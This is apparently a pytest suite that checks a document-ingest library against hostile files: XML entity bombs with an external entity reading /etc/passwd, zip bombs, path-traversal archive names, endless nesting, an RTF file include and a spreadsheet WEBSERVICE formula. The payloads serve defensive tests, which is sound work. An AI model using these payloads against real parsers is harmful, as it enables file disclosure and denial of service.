"""Files made to do harm: bombs, endless nesting, tricks with names and sizes, references to elsewhere."""

import io
import json
import re
import zipfile
from email.message import EmailMessage

import openpyxl
import pytest

from ingest.formats import reader
from ingest.formats.members import Budget
from ingest.parse import parse
from ingest.sandbox import Limits
from storage.errors import DocumentError
from tests.ingest import files, papers
from tests.ingest.compound import compound, msg, outlook

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "{}"><!ENTITY b "{}"><!ENTITY c "{}">'
    '<!ENTITY e SYSTEM "file:///etc/passwd">]>'
).format("x" * 1000, "&a;" * 1000, "&b;" * 1000)


def read(data, name="file", **budget):
    given = {"pages": 1000, "characters": 10**7, "unpacked": 10**8} | budget
    return reader.read(io.BytesIO(data), name, Budget(**given))[1]


def text_of(reading):
    return "\n".join(section.text for section in reading.sections)


@pytest.mark.parametrize(
    ("data", "part", "mark"),
    [
        (files.pptx(), "ppt/slides/slide1.xml", "Fewer returns"),
        (files.xlsx(), "xl/worksheets/sheet1.xml", "Cost centre"),
        (files.odt(), "content.xml", "Bring a badge"),
        (files.ods(), "content.xml", "Cost centre"),
        (files.odp(), "content.xml", "Wear a helmet"),
        (files.epub(), "OEBPS/one.xhtml", "moves water"),
        (files.epub(), "OEBPS/book.opf", "Pumps and valves"),
    ],
)
def test_entities_are_never_expanded_and_nothing_outside_is_read(data, part, mark):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(part).decode()
    xml = re.sub(r"<\?xml[^>]*>", "", xml)
    inside = xml.replace(mark, f"{mark} &c; &e;") if mark in xml else xml
    try:
        text = text_of(read(papers.changed_zip(data, {part: (BOMB + inside).encode()})))
    except DocumentError:
        return  # refusing it is as good
    assert len(text) < 100_000
    assert "root:" not in text


@pytest.mark.parametrize("name", ["review.pptx", "budget.xlsx", "rules.odt", "pumps.epub", "leave.docx", "all.zip"])
def test_what_unpacks_to_too_much_is_refused_before_it_is_read(name):
    bomb = papers.changed_zip(files.every()[name], {"media/picture.png": bytes(150_000_000)})
    assert len(bomb) < 400_000
    with pytest.raises(DocumentError, match="unpacks to more"):
        read(bomb, name)


def nested(depth, data=b"WARRANTY\n\nTwo years."):
    for level in range(depth):
        data = files.zipped({f"{level}.zip" if level else "words.txt": data})
    return data


def test_archives_in_archives_end_at_a_depth():
    assert "Two years" in text_of(read(nested(3)))
    reading = read(files.zipped({"plain.txt": "Some words.", "deep.zip": nested(9)}))
    assert text_of(reading) == "Some words."
    assert "files lie in files too deep" in reading.warnings[0].lower()
    with pytest.raises(DocumentError) as caught:
        read(nested(9))
    why = "4.zip was left out: files lie in files too deep. Unpack it and upload what is in it."
    assert str(caught.value) == f"No file in this archive could be read. {why} Upload files with text in them."


def test_an_archive_whose_first_file_is_a_pdf_that_is_not_packed_is_an_archive():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("a.pdf", papers.pdf([papers.LOREM]))
        archive.writestr("b.txt", "Words of the second.")
    text = text_of(read(data.getvalue()))
    assert "vacation days" in text
    assert "Words of the second." in text


def test_one_budget_bounds_all_that_is_nested():
    inner = files.zipped({f"{n}.txt": b"a" * 3_000_000 for n in range(9)})
    reading = read(files.zipped({"first.txt": "Some words.", **{f"{n}.zip": inner for n in range(9)}}), unpacked=40**5)
    assert any("more than can be taken" in warning for warning in reading.warnings)
    assert len(text_of(reading)) <= 10**7


def test_thousands_of_files_are_cut_and_counted():
    reading = read(files.zipped({f"{n}.txt": f"Words {n}." for n in range(300)}), members=100)
    assert len(reading.sections) == 100
    assert reading.warnings[-1] == "190 more files were left out."


def test_paths_in_archives_are_only_names():
    names = ["../../etc/passwd", "/root/.ssh/id", "C:\\Windows\\system.ini", "a > b\u202e.txt", "x" * 3000, "\n"]
    reading = read(files.zipped({name: f"Words of {n}." for n, name in enumerate(names)}))
    places = [section.place for section in reading.sections]
    assert places[:4] == ["etc/passwd", "root/.ssh/id", "C:/Windows/system.ini", "a b .txt"]
    assert all(len(place) <= 100 and "\n" not in place for place in places)


def test_members_of_macos_and_what_is_no_document_do_not_count_as_read():
    with pytest.raises(DocumentError, match="No file in this archive"):
        read(files.zipped({"__MACOSX/._a.txt": b"x", "a/.DS_Store": b"x", "a.exe": b"MZ\0\1\2\3" * 50}))


def test_a_member_whose_size_is_a_lie_costs_only_itself():
    data = bytearray(files.zipped({"a.txt": "Some words. " * 50, "b.txt": "Other words."}))
    at = data.find(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")  # the unpacked size, of which the checksum knows more
    reading = read(bytes(data))
    assert text_of(reading) == "Other words."
    assert reading.warnings == ["a.txt was left out: it is damaged. Pack it again."]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (compound({"EncryptedPackage": b"x" * 99, "EncryptionInfo": b"y" * 99}), "encrypted"),
        (files.opendocument("text", "", manifest="<manifest:encryption-data/>"), "encrypted"),
        (compound({"WordDocument": b"x" * 99}), r"old Office version\. Save it as \.docx or PDF"),
        (compound({"PowerPoint Document": b"x" * 99}), r"old Office version\. Save it as \.pptx or PDF"),
        (compound({"VisioDocument": b"x" * 99}), r"not supported\. Save it as PDF"),
        (
            files.zipped({"[Content_Types].xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}),
            r"as \.xlsx",
        ),
        (files.zipped({"[Content_Types].xml": "<Types/>", "a.txt": "words"}), "not supported"),
    ],
)
def test_what_can_not_be_read_says_why(data, reason):
    with pytest.raises(DocumentError, match=reason) as caught:
        read(data)
    assert caught.value.remedy


def test_a_book_locked_by_a_shop_is_encrypted():
    locked = (
        '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData><CipherData>'
        '<CipherReference URI="OEBPS/one.xhtml"/></CipherData></EncryptedData></encryption>'
    )
    with pytest.raises(DocumentError, match="encrypted"):
        read(papers.changed_zip(files.epub(), {"META-INF/encryption.xml": locked.encode()}))


def test_encrypted_members_are_named():
    data = bytearray(files.zipped({"a.txt": "Some words.", "b.txt": "Other words."}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + offset] |= 1
    assert read(bytes(data)).warnings == ["a.txt was left out: it is encrypted. Upload it without a password."]


def test_a_sheet_that_claims_to_be_endless_is_read_for_what_it_holds(tmp_path):
    data = files.xlsx({"Big": [["Name", "Days"], ["Leave", 30]]})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    claimed = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml)
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>end</t></is></c></row>'
    farther = '<row r="4000000000"><c r="A4000000000"><v>1</v></c></row>'
    claimed = claimed.replace("</sheetData>", f"{far}{farther}</sheetData>")
    path = tmp_path / "big.xlsx"
    path.write_bytes(papers.changed_zip(data, {"xl/worksheets/sheet1.xml": claimed.encode()}))
    parsed = parse(path, "big.xlsx", Limits(cpu_seconds=60))
    assert parsed.sections[0].text == "Big\n\nName | Days\nLeave | 30"
    assert parsed.warnings == ("Sheet Big, rows 1-1048576: columns after the 1,000th were left out. Split the table.",)


def test_more_cells_than_can_be_taken_are_cut_with_a_warning(monkeypatch):
    from ingest.formats import grid

    monkeypatch.setattr(grid.Allowance.__init__, "__defaults__", (300, *grid.Allowance.__init__.__defaults__[1:]))
    reading = read(files.csv(), "costs.csv")
    assert "CC-099 |" in text_of(reading)
    assert "CC-100 |" not in text_of(reading)
    assert reading.warnings == ["Row 101 and what follows was left out: too many cells. Split the file."]


def test_formulas_are_neither_computed_nor_shown():
    book = openpyxl.Workbook()
    book.active.append(["Name", "Link"])
    book.active.append(["Total", '=WEBSERVICE("http://example.org/"&A1)'])
    assert text_of(read(files.saved(book))) == "Sheet\n\nName | Link\nTotal"


@pytest.mark.parametrize("data", [b"[" * 200_000 + b"]" * 200_000, b'{"a":' * 100_000 + b"1" + b"}" * 100_000])
def test_json_without_an_end_to_its_depth_is_text(data):
    reading = read(data, "deep.json")
    assert reading.warnings == ["This is not valid JSON; it was read as plain text."]


def test_json_deeper_than_sections_can_show_is_kept_as_it_stands():
    value = "the innermost words " * 40
    for level in range(90):
        value = {f"k{level}": value, "other": "x" * 500}
    reading = read(json.dumps(value).encode())
    assert "the innermost words" in text_of(reading)
    assert "too deep" in reading.warnings[0]


def mail_in_mail(depth):
    mail = EmailMessage()
    mail["From"], mail["Subject"], mail["Message-ID"] = "a@example.org", f"Level {depth}", "<1@example.org>"
    mail.set_content(f"Words of level {depth}.")
    if depth:
        mail.add_attachment(mail_in_mail(depth - 1))
    return mail


def test_mails_in_mails_end_at_a_depth():
    reading = read(mail_in_mail(2).as_bytes())
    assert [section.place for section in reading.sections][1:] == [
        "Attachment Level 1, message",
        "Attachment Level 1, attachment Level 0, message",
    ]
    deep = read(mail_in_mail(9).as_bytes())
    assert any("too deep" in warning for warning in deep.warnings)
    assert "Words of level 5." in text_of(deep)


def test_multiparts_without_end_are_refused_or_read():
    data = b"From: a@example.org\nMIME-Version: 1.0\nSubject: x\n"
    for level in range(3000):
        data += f'Content-Type: multipart/mixed; boundary="{level}"\n\n--{level}\n'.encode()
    with pytest.raises(DocumentError, match="damaged"):
        read(data + b"\nwords", "x.eml")


def test_one_odd_attachment_does_not_cost_the_mail():
    odd = [("a.xlsx", files.xlsx()[:900]), ("b.pdf", b"%PDF-1.7 nothing"), ("c.bin", bytes(range(256)) * 9)]
    reading = read(files.eml([*odd, ("good.docx", files.word())]))
    assert [section.place for section in reading.sections] == ["Message", "Attachment good.docx"]
    assert [warning.split(" was")[0] for warning in reading.warnings] == [f"Attachment {name}" for name, _ in odd]


def test_an_outlook_mail_keeps_its_headers_and_the_mail_in_it():
    inner = outlook("Inner subject", "Inner words.", top=False)
    headers = "From: Jo <jo@example.org>\r\nTo: anna@example.org\r\nDate: Tue, 03 Mar 2026 10:15:00 +0100\r\n"
    reading = read(msg("Offer", "Outer words.", headers=headers, inner=inner))
    assert "From: Jo <jo@example.org>\nTo: anna@example.org" in reading.sections[0].text
    assert reading.properties == {"date": "2026-03-03"}
    assert "Inner words." in reading.sections[1].text


def test_rtf_groups_without_end_are_refused():
    with pytest.raises(DocumentError, match="no end"):
        read(b"{\\rtf1 " + b"{" * 50_000)
    assert text_of(read(b"{\\rtf1 words}" + b"}" * 50_000)) == "words"


def test_rtf_never_opens_what_it_refers_to():
    reading = read(rb"{\rtf1 before {\field{\*\fldinst INCLUDETEXT \"/etc/passwd\"}{\fldrslt shown}} after\par}")
    assert text_of(reading) == "before shown after"


def test_repeated_cells_of_a_sheet_are_no_bomb():
    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    sheet = f'<office:spreadsheet><table:table table:name="A">{row * 20}</table:table></office:spreadsheet>'
    with pytest.raises(DocumentError, match="more text than can be taken"):
        read(files.opendocument("spreadsheet", sheet), characters=10**6)
